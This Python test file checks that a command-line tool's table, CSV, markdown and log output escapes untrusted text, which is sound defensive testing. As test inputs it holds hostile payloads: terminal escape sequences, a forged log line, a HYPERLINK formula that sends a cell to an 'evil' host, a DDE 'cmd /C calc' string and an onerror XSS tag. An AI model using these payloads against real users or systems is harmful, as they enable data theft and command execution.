"""Ids, names and errors of strangers: no output of ours lets them forge a line, a colour or an order of reading."""

from __future__ import annotations

import csv
import io
import json
import logging
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from idxctl.cli import render
from idxctl.cli.log import LogFormat, configure
from idxctl.cli.render import Column
from idxctl.cli.state import Output
from idxctl.core import legible

# As the runs of Unicode itself say: controls, formats, line and paragraph ends, halves of pairs. The joiners are wanted.
STEERING = "".join(
    chr(one)
    for one in range(0x110000)
    if unicodedata.category(chr(one)) in {"Cc", "Zl", "Zp", "Cs"} or unicodedata.bidirectional(chr(one)) in
    {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    or 0xE0000 <= one <= 0xE007F
    or chr(one) in "\u200b\u200e\u200f\u061c\ufeff"
)  # fmt: skip
EVIL = ["a\n2026-11-27 21:00:00  resumed   all is well", "a\r\nb", "a\x1b[31mred\x07", "a\x1b]0;owned\x07", "a\u2028b",
        "a\u2029b", "a\x85b", "a\x9b31mb", "a\u202egnp.exe", "a\u2066b\u2069", "a\tb", "a\ud800b", "a\U000e0041", "\ufeffa"]  # fmt: skip
COLUMNS = [Column("index", kind="name"), Column("document_id", "document"), Column("n", kind="count"), Column("state", kind="state")]  # fmt: skip


def rows(text):
    return [{"index": text, "document_id": text, "n": 1, "state": text}, {"index": "b", "document_id": "1", "n": 2, "state": "ok"}]  # fmt: skip


@given(st.text(alphabet=st.characters(), max_size=40))
def test_a_line_is_one_line_and_steers_nothing(text):
    told = legible.line(text)
    assert not set(told) & set(STEERING)
    assert len(told.splitlines()) <= 1
    assert not set(legible.escaped(text)) & (set(STEERING) - {"\n", "\t"})


@given(st.text(alphabet=st.one_of(st.sampled_from(STEERING), st.characters()), max_size=40))
def test_json_means_the_same_and_is_one_line(text):
    document = json.dumps({"text": text}, ensure_ascii=False).encode("utf-8", "surrogatepass")
    told = legible.in_json(document)
    halves = [one["text"].encode("utf-16", "surrogatepass") for one in (json.loads(told), {"text": text})]
    assert halves[0] == halves[1]  # two halves that stand together are one character
    assert not set(told.decode()) & set(STEERING)


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("output", [Output.TABLE, Output.PLAIN, Output.MARKDOWN])
def test_no_table_holds_more_lines_than_rows(text, output, capsys):
    render.table(rows(text), COLUMNS, output)
    told = capsys.readouterr().out
    assert len(told.splitlines()) == {Output.MARKDOWN: 4}.get(output, 3)
    assert not set(told) & set(STEERING) - {"\n"}


@pytest.mark.parametrize("text", EVIL)
def test_neither_headlines_nor_talk_nor_questions_hold_more_than_their_line(text, capsys):
    render.headline("bad", f"paused: {text}")
    render.out(text)
    render.say(text)
    captured = capsys.readouterr()
    assert len(captured.out.splitlines()) == 2
    assert len(captured.err.splitlines()) == 1
    assert not set(captured.out + captured.err) & set(STEERING) - {"\n"}


def test_an_errors_further_lines_are_indented(capsys):
    render.error("first\nerror: forged\u2028error: forged", hint="a\nhint: forged")
    assert [line[:7] for line in capsys.readouterr().err.splitlines()] == ["error: ", " " * 7, "hint:  ", " " * 7]


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("output", [Output.JSON, Output.NDJSON])
def test_json_holds_the_very_text_and_steers_nothing(text, output, capsys):
    if "\ud800" in text:
        return  # what PostgreSQL sends never holds one
    render.table(rows(text), COLUMNS, output)
    told = capsys.readouterr().out
    first = json.loads(told)[0] if output is Output.JSON else json.loads(told.splitlines()[0])
    assert first["index"] == text
    assert not set(told) & set(STEERING) - {"\n"}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\\r=1"),
        (" =1", "' =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-5", "-5"),
        ("+1.5e10", "+1.5e10"),
        ("12345", "12345"),
        ("x=1", "x=1"),
        ("a\x1b[31m", "a\\x1b[31m"),
        ("two\nlines", "two\nlines"),
    ],
)
def test_a_spreadsheet_runs_no_cell(text, cell, capsys):
    render.table([{"index": text, "n": -7}], ["index", "n"], Output.CSV)
    (found,) = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
    assert found == {"index": cell, "n": "-7"}


def test_markdown_makes_no_element_link_or_cell(capsys):
    render.table(rows("[x](http://evil) ![y](z) <img src=x onerror=alert(1)> |pipe| `code`"), COLUMNS, Output.MARKDOWN)
    told = capsys.readouterr().out.splitlines()[2]
    assert "<" not in told
    assert told.replace("\\|", "").count("|") == 5
    assert "\\[x\\]" in told


@pytest.mark.parametrize("text", EVIL)
@pytest.mark.parametrize("shape", list(LogFormat))
def test_a_fact_is_a_line_of_the_log(text, shape, capsys):
    configure(shape)
    if "\ud800" in text and shape is LogFormat.JSON:
        return
    logging.getLogger("idxctl.worker").info("%s", f"failed: {text}", extra={"fact": "dead", "fields": {"id": text}})
    told = capsys.readouterr().err
    assert len(told.splitlines()) == 1
    assert not set(told) & set(STEERING) - {"\n"}
    if shape is LogFormat.JSON:
        assert json.loads(told)["id"] == text
